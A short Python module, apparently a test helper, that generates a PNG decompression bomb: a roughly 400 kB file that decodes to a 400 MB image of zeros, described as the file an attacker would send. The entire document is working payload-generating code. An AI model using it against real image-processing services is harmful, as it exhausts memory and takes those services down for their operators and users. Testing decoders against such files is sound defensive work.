"""A decompression bomb: a small PNG that declares a huge grey image of zeros, as an attacker would send one."""

import struct
import zlib


def png_bomb(width=20000, height=20000):
    """A valid PNG of width x height 8-bit grey pixels, all 0: 400 MB decoded from about 400 kB."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    compressor, row, parts = zlib.compressobj(9), bytes(width + 1), []  # each row: filter byte 0, then pixels
    for _ in range(height):
        parts.append(compressor.compress(row))
    parts.append(compressor.flush())
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", b"".join(parts)) + chunk(b"IEND", b"")
